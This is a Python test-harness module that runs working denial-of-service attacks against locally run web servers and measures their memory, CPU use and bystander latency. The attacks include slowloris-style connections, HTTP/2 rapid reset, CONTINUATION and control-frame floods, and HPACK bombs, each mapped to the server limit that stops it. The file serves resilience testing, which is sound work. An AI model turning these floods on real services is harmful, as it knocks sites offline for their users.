"""The attacks: what one peer sends, what the server's memory and processor time become, and how long a bystander waits."""
import contextlib, multiprocessing, os, resource, select, socket, ssl, time
from compare_servers import HOST, LOAD_CPU, PATHS

REQUEST = b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n"
CONNECTIONS = 5000
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 3: "FLOW_CONTROL_ERROR", 5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR",
         9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}


# Frames (RFC 9113) and header blocks (RFC 7541).

def frame(kind, flags=0, stream=0, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def settings(*pairs):
    return frame(SETTINGS, payload=b"".join(key.to_bytes(2, "big") + value.to_bytes(4, "big") for key, value in pairs))


def window_update(stream, increment):
    return frame(WINDOW_UPDATE, 0, stream, increment.to_bytes(4, "big"))


def integer(value):
    if value < 127:
        return bytes([value])
    encoded, value = bytearray([127]), value - 127
    while value >= 128:
        encoded.append(value & 0x7f | 0x80)
        value >>= 7
    return bytes(encoded) + bytes([value])


def text(value):
    return integer(len(value)) + value.encode()


def head(method=0x82, path=None):
    target = b"\x84" if path is None else b"\x04" + text(path)
    return bytes([method, 0x87]) + target + b"\x01" + text("localhost")


def get(stream, block=None):
    return frame(HEADERS, 5, stream, block or head())


POST = frame(HEADERS, 4, 1, head(0x83))
LARGE = get(1, head(path=PATHS["large"]))
SHUT = settings((4, 0))
NEWEST = bytes([0x80 | 62])  # the only entry of the dynamic table
INDEXED = b"\x40" + text("x") + text("x" * 4000)  # a field that enters it
CRUMB = b"\x60\x00"  # `cookie:`, which enters it
PING_FRAME = frame(PING, payload=b"e6 lives")


class Flood:
    """One HTTP/2 connection: an opening, then batches until the server ends it. With `requests`, each batch has so many,
    and waits for the responses to the one before."""

    def __init__(self, batch, opening=b"", requests=0):
        self.batch, self.opening, self.requests = batch if callable(batch) else lambda _: batch, opening, requests

    def run(self, peer, seconds, ready):
        connection = tls(peer, "h2")
        connection.setblocking(False)
        ready()
        began, number, heads, received, code = time.monotonic(), 0, 0, b"", None
        waiting = memoryview(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + settings() + self.opening)
        while True:
            left = began + seconds - time.monotonic()
            if left <= 0:
                return f"served for {seconds:g} s"
            if not waiting and heads >= number * self.requests:
                waiting, number = memoryview(self.batch(number)), number + 1
            moved = False
            try:
                if waiting:
                    waiting, moved = waiting[connection.send(waiting[:65536]):], True
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
                pass
            except OSError:
                waiting = memoryview(b"x")  # closed for writing; what it said may still be read
            try:
                bytes_ = connection.recv(65536)
                if not bytes_:
                    break
                received += bytes_
                while len(received) >= 9 and len(received) >= 9 + int.from_bytes(received[:3], "big"):
                    length = int.from_bytes(received[:3], "big")
                    heads += received[3] == HEADERS
                    if received[3] == GOAWAY:
                        code = int.from_bytes(received[13:17], "big")
                    received = received[9 + length:]
                moved = True
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                pass
            except OSError:
                break
            if not moved:
                select.select([connection], [connection] if waiting else [], [], 0.05)
        took = (time.monotonic() - began) * 1000
        return f"ended after {took:.0f} ms" + (f", {CODES.get(code, code)}" if code is not None else "")


def batches(bytes_):
    """About 64 KiB of the same bytes, over and over."""
    return bytes_ * max(1, 65536 // len(bytes_))


def streams(each, count=100):
    """Bytes for each of the next streams."""
    return lambda batch: b"".join(each(2 * (batch * count + number) + 1) for number in range(count))


def heads(block, count=20):
    """Requests with this block, as many at once as every server allows, with windows for all responses."""
    return Flood(streams(lambda stream: get(stream, block(stream)), count), window_update(0, 0x7fff0000), requests=count)


# A second of drops falls on so many ticks.
TICKS = 100
TICK = 1 / TICKS


class Held:
    """Many connections that are held open; `drip` sends one byte on each of them every second, evenly over the second."""

    def __init__(self, port, sent=b"", count=CONNECTIONS, drip=b"", over=None):
        self.port, self.sent, self.count, self.drip, self.over = port, sent, count, drip, over

    def run(self, peer, seconds, ready):
        open_ = [self.connect(peer) for _ in range(self.count)]
        ready()
        began = time.monotonic()
        for tick in range(round(seconds / TICK)):
            for connection in open_[tick % TICKS::TICKS] if self.drip else []:
                with contextlib.suppress(OSError):
                    connection.send(self.drip)
            time.sleep(max(0, began + (tick + 1) * TICK - time.monotonic()))
        return f"{sum(map(is_open, open_)):,} of {self.count:,} open after {seconds:g} s"

    def connect(self, peer):
        if self.over:
            connection = tls(peer, self.over)
        else:
            connection = socket.socket()
            # Readers that stop hold what the server's buffers hold, not their own.
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            connection.connect((HOST, getattr(peer, self.port)))
        connection.setblocking(False)
        with contextlib.suppress(OSError):
            connection.send(self.sent)
        return connection


def is_open(connection):
    try:
        while True:
            if not connection.recv(65536):
                return False
    except (BlockingIOError, ssl.SSLWantReadError):
        return True
    except OSError:
        return False


def tls(peer, protocol):
    context = ssl._create_unverified_context()
    context.set_alpn_protocols([protocol])
    return context.wrap_socket(socket.create_connection((HOST, peer.https)), server_hostname="localhost")


def hello():
    """A TLS client hello."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = ssl._create_unverified_context().wrap_bio(incoming, outgoing, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        session.do_handshake()
    return outgoing.read()


class Nothing:
    def run(self, peer, seconds, ready):
        ready()
        time.sleep(seconds)
        return ""


HALF_HEAD = REQUEST[:-4]
HALF_HELLO = hello()[:100]
UPLOAD = b"POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\n"
PICTURES = b"GET /card.png HTTP/1.1\r\nHost: localhost\r\n\r\n" * 50
BLOCKED = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SHUT + b"".join(get(2 * number + 1) for number in range(64))

# name: (the limit of e6 that stops it, the attack)
ATTACKS = {
    "none": ("", Nothing()),
    "silent connections": ("`head`", Held("http")),
    "silent before TLS": ("`handshake`", Held("https")),
    "half a ClientHello": ("`handshake`", Held("https", HALF_HELLO)),
    "a byte a second in hello": ("`handshake`", Held("https", HALF_HELLO, drip=b"x")),
    "a byte a second in head": ("`head`", Held("http", HALF_HEAD, drip=b"x")),
    "a byte a second in body": ("bodies are not read", Held("http", UPLOAD, drip=b"x")),
    "readers that stop": ("`stall`", Held("http", PICTURES)),
    "ALPN h2 and nothing": ("`head`", Held("https", over="h2")),
    "blocked streams": ("`stall`", Held("https", BLOCKED, count=64, over="h2")),
    "rapid reset": ("`h2_pending_resets`", Flood(streams(lambda stream: get(stream) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")))),
    "made-you-reset": ("`h2_local_resets`", Flood(streams(lambda stream: get(stream) + window_update(stream, 0x7fffffff)))),
    "refused streams": ("`h2_local_resets`", Flood(streams(get), opening=SHUT)),
    "CONTINUATION": ("`head_size`", Flood(batches(frame(CONTINUATION, 0, 1, b"\0" + text("x-more") + text("and more"))),
                                          opening=frame(HEADERS, 1, 1, head()))),
    "empty CONTINUATION": ("`head_size`", Flood(batches(frame(CONTINUATION, 0, 1)), opening=frame(HEADERS, 1, 1, head()))),
    "SETTINGS": ("`h2_control_frames`", Flood(batches(settings((4, 65535))))),
    "PING": ("`h2_control_frames`", Flood(batches(PING_FRAME))),
    "PRIORITY": ("`h2_control_frames`", Flood(batches(frame(PRIORITY, 0, 1, b"\0\0\0\0\x0f")))),
    "WINDOW_UPDATE": ("`h2_control_frames`", Flood(batches(window_update(0, 1)))),
    "WINDOW_UPDATE of one byte": ("`h2_control_frames`", Flood(batches(window_update(1, 1)), opening=SHUT + LARGE)),
    "unknown frames": ("`h2_control_frames`", Flood(batches(frame(0xee, payload=b"unknown")))),
    "empty DATA": ("`h2_control_frames`", Flood(batches(frame(DATA, 0, 1)), opening=POST)),
    "DATA of one byte": ("`h2_control_frames`", Flood(batches(frame(DATA, 0, 1, b"x")), opening=POST)),
    "HPACK bomb": ("`head_size`", Flood(PING_FRAME, opening=get(1, head() + INDEXED + NEWEST * 12000))),
    "small HPACK bombs": ("`h2_control_frames`", heads(lambda stream: head() + (INDEXED if stream == 1 else b"") + NEWEST * 25)),
    "table size updates": ("`h2_control_frames`", heads(lambda stream: b"\x20\x3f\xe1\x1f" * 4000 + head())),
    "cookie crumbs": ("`h2_control_frames`", heads(lambda stream: head() + CRUMB + NEWEST * 800)),
}


def bystander(peer, ready, over, times):
    """Fetches the page a hundred times a second from when the attack is ready, and sends the milliseconds of each."""
    os.nice(-15)
    waited = []
    ready.wait()
    while not over.is_set():
        began = time.perf_counter()
        with contextlib.closing(socket.create_connection((HOST, peer.http), timeout=20)) as connection:
            connection.sendall(REQUEST.replace(b"\r\n\r\n", b"\r\nConnection: close\r\n\r\n"))
            while connection.recv(65536):
                pass
        waited.append((time.perf_counter() - began) * 1000)
        time.sleep(max(0, 0.01 - (time.perf_counter() - began)))
    times.send(waited)


def attacker(peer, attack, seconds, ready, outcome):
    outcome.send(ATTACKS[attack][1].run(peer, seconds, ready.set))
    outcome.recv()  # connections stay open until the memory was read


def measure(peer, attack, seconds):
    """Outcome, MiB more of memory, seconds of processor time, and the bystander's 99th percentile in ms."""
    os.sched_setaffinity(0, {int(LOAD_CPU)})
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    with peer.running():
        for _ in range(50):
            peer.get("/")
        tls(peer, "h2").close()
        time.sleep(0.5)
        memory, cpu = peer.memory_kib(), peer.cpu_seconds()
        fork = multiprocessing.get_context("fork")
        over, ready = fork.Event(), fork.Event()
        (times, their_times), (outcome, their_outcome) = fork.Pipe(), fork.Pipe()
        visitor = fork.Process(target=bystander, args=(peer, ready, over, their_times))
        attacking = fork.Process(target=attacker, args=(peer, attack, seconds, ready, their_outcome))
        visitor.start()
        attacking.start()
        most = memory
        while not outcome.poll(0.2):
            assert attacking.is_alive(), f"{attack} on {peer.name} failed"
            most = max(most, peer.memory_kib())
        said = outcome.recv()
        # The bystander's visits during a short attack alone would be too few.
        time.sleep(0.5)
        most = max(most, peer.memory_kib())
        over.set()
        waited = sorted(times.recv())
        spent = peer.cpu_seconds() - cpu
        outcome.send(None)
        visitor.join()
        attacking.join()
    return {"outcome": said, "memory": (most - memory) / 1024, "cpu": spent, "p99": waited[int(len(waited) * 0.99)]}
